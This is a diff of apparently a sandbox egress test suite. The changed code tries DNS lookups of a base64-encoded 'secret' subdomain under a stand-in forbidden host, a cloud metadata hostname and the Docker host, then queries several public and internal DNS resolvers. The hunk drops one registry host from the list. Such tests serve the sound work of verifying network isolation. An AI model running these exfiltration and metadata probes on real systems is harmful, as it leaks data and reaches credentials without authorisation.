@@ -60,7 +60,7 @@ export const EGRESS: readonly AttackCase[] = [
     node(
       String.raw`
       const dns = require("node:dns");
-      for (const name of ["c2VjcmV0.forbidden.test", "example.com", "metadata.google.internal", "host.docker.internal", "registry.npmjs.org"]) {
+      for (const name of ["c2VjcmV0.forbidden.test", "example.com", "metadata.google.internal", "host.docker.internal"]) {
         await attempt("lookup:" + name, async () => (await within(8000, dns.promises.lookup(name))).address);
       }
       for (const server of ["8.8.8.8", "1.1.1.1", "127.0.0.1", "127.0.0.11", "127.0.0.53", "172.17.0.1", "169.254.169.253"]) {
